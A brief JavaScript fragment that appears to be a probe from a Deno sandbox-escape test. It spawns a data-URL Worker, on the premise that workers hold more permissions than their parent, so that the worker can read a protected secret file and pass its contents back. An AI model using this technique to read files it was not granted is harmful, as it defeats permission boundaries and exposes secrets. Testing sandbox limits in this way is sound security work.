// class only: a worker started by the program
// A worker of the program has more permissions than it.
try {
    const text = `try { postMessage(Deno.readTextFileSync(${JSON.stringify(GOAL.secret)})); } catch { postMessage(''); }`;
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(text), { type: 'module' });
    note(await new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done(''); }));
} catch {}
return found;
